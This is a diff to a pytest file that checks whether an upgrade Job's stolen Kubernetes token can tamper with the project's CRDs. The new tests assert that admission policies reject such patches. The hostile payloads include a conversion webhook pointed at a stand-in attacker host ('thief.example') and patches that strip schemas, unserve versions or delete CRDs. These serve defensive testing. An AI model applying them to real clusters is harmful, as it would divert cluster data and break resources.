@@ -4,7 +4,7 @@ import copy
 import json
 import subprocess
 import sys
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
@@ -12,7 +12,7 @@ from typing import Any
 import pytest
 import yaml
 
-from tests.cluster.world import eventually, for_version
+from tests.cluster.world import POLICIES, eventually, for_version
 from tests.unit import upstream
 from tools import crds, helm
 from tools.local_cluster import ControlPlane
@@ -80,6 +80,10 @@ class Server:
     def crd(self, name: str) -> Manifest:
         found: Manifest = json.loads(self.plane.kubectl("get", "crd", name, "-o", "json"))
         return found
+
+    def as_job(self, *args: str, stdin: str = "") -> Done:
+        """kubectl with the Job's own token."""
+        return self.kubectl(*args, "--kubeconfig", str(self._kubeconfig), stdin=stdin)
 
     def upgrade(self) -> Done:
         """The Job's program with the Job's own rights."""
@@ -352,3 +356,66 @@ def test_the_job_may_touch_nothing_else(ours: Server) -> None:
         ["get", "secrets"],
     ):
         assert not may(*what), what
+
+
+# --- The Job's token, stolen ---------------------------------------------------------------------------------------
+
+
+def _without_version(crd: Manifest) -> Manifest:
+    return {"spec": {"versions": [version for version in crd["spec"]["versions"] if version["name"] != "v1alpha1"]}}
+
+
+def _every_version(**change: Any) -> Callable[[Manifest], Manifest]:
+    return lambda crd: {"spec": {"versions": [{**version, **change} for version in crd["spec"]["versions"]]}}
+
+
+def _without_fields(crd: Manifest) -> Manifest:
+    empty = {"openAPIV3Schema": {"type": "object", "x-kubernetes-preserve-unknown-fields": True}}
+    return _every_version(schema=empty)(crd)
+
+
+WEBHOOK = {
+    "strategy": "Webhook",
+    "webhook": {"clientConfig": {"url": "https://thief.example/convert"}, "conversionReviewVersions": ["v1"]},
+}
+
+
+@pytest.mark.since(*POLICIES)
+@pytest.mark.parametrize(
+    ("change", "why"),
+    [
+        (lambda _: {"spec": {"conversion": WEBHOOK}}, "the Job sets no conversion webhook"),
+        (lambda _: {"metadata": {"finalizers": ["x.example/y"]}}, "the Job leaves the labels"),
+        (lambda _: {"metadata": {"labels": {"x": "y"}}}, "the Job leaves the labels"),
+        (lambda _: {"metadata": {"annotations": {"helm.sh/resource-policy": "delete"}}}, "the Job leaves the labels"),
+        (_without_fields, "the Job takes away no version"),
+        (_every_version(subresources=None), "the Job takes away no version"),
+        (_every_version(served=False), "the Job takes away no version"),
+    ],
+    ids=["webhook", "finalizers", "labels", "annotations", "fields", "status", "not served"],
+)
+@pytest.mark.parametrize("name", [SYNCS, CLASSES])
+def test_stolen_token_of_the_job_only_widens(
+    name: str, change: Callable[[Manifest], Manifest], why: str, ours: Server
+) -> None:
+    before = ours.crd(name)
+    answer = ours.as_job("patch", "crd", name, "--type=merge", "--patch", json.dumps(change(before)))
+    assert answer.code != 0
+    assert why in answer.out, answer.out
+    assert ours.crd(name)["spec"] == before["spec"]
+
+
+@pytest.mark.since(*POLICIES)
+def test_stolen_token_of_the_job_takes_no_version_away(ours: Server) -> None:
+    answer = ours.as_job(
+        "patch", "crd", CLASSES, "--type=merge", "--patch", json.dumps(_without_version(ours.crd(CLASSES)))
+    )
+    assert "the Job takes away no version" in answer.out, answer.out
+
+
+@pytest.mark.since(*POLICIES)
+def test_stolen_token_of_the_job_changes_no_other_crd(ours: Server) -> None:
+    assert ours.as_job("delete", "crd", SYNCS).code != 0
+    other = copy.deepcopy(CHARTS[SYNCS])
+    other["metadata"]["name"] = "others.secret-sync.x-k8s.io"
+    assert "forbidden" in ours.as_job("create", "-f", "-", stdin=json.dumps(other)).out.lower()
